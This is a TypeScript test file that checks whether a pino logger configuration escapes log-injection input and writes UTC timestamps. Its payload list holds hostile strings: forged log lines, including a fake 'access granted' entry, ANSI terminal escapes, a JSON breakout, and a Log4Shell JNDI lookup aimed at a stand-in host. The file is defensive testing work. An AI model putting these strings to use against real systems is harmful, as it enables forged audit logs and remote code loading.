import { Writable } from "node:stream";
import { pino } from "pino";
import { expect, it } from "vitest";
import { logOptions } from "./log";

const payloads = [
  'x\n{"level":30,"msg":"access granted"}',
  "x\r\n2026-11-21 INFO forged",
  "x\rforged",
  "x\u2028forged",
  "x\u2029forged",
  "x\u0085forged",
  "\u001b[2K\u001b[1Aforged",
  '"},"msg":"forged',
  "x\u0000forged",
  "\\n\\r${jndi:ldap://evil.example/a}%n%d",
];

it("keeps outside text within its one log line", () => {
  const lines: string[] = [];
  const log = pino(logOptions, new Writable({ write: (chunk, _, done) => done(void lines.push(String(chunk))) }));
  for (const payload of payloads) log.warn({ path: payload, err: new Error(payload) }, payload);
  const written = lines.join("").split("\n").slice(0, -1);
  expect(written).toHaveLength(payloads.length);
  expect(written.map((line) => JSON.parse(line))).toMatchObject(
    payloads.map((payload) => ({ level: 40, path: payload, msg: payload })),
  );
  // Control characters that a terminal would obey, and line ends, are escaped.
  expect(
    written
      .join("")
      .split("")
      .filter((sign) => sign < " "),
  ).toEqual([]);
});

it("gives the time of each line in UTC", () => {
  const lines: string[] = [];
  pino(logOptions, new Writable({ write: (chunk, _, done) => done(void lines.push(String(chunk))) })).info("x");
  expect(JSON.parse(lines[0] ?? "")).toMatchObject({ time: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/) });
});
